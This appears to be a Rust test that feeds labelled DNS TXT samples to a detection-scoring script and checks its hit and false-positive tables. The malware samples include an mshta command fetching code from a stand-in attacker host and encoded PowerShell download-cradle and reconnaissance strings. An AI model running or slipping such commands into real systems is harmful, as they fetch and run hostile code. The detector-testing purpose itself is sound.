//! What `models/train/signs.py` prints of a few texts, with the program in `bin/`.

use std::fs;
use std::process::Command;

use xtask::root;

#[test]
fn signs_py_prints_what_signs_find_and_what_they_raise_wrongly() {
    let folder = tempfile::tempdir().unwrap();
    let rows = [
        ("mshta evil.example/x", "malware"),
        ("d2hvYW1pIC9hbGw=", "malware"),
        ("SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "malware"),
        ("v=spf1 include:_spf.example.com ~all", "benign"),
        ("jdoe:*:12345:100:John Doe:/mit/jdoe:/bin/bash", "benign"),
    ];
    let lines = rows.map(|(text, kind)| serde_json::json!({"text": text, "source": format!("a {kind} source"), "kind": kind}).to_string());
    let file = folder.path().join("rows.jsonl");
    fs::write(&file, lines.join("\n")).unwrap();
    let script = root().join("models/train/signs.py");
    let done = Command::new("python3").arg(script).arg(root().join("bin/dnstxtscore")).arg(&file).output().unwrap();
    let out = String::from_utf8(done.stdout).unwrap();
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
    assert!(out.contains("| command | 0.95 | 1 | 1 | 1 |") && out.contains("| encoded command | 0.95 | 2 | 1 | 0 |"), "{out}");
    assert!(out.contains("| a malware source | 3 | 1 | 3 |"), "{out}");
    assert!(out.contains("1 of 2 ordinary texts rise to 0.5 and more by a sign:\n  command: a benign source: 'jdoe:"), "{out}");
}
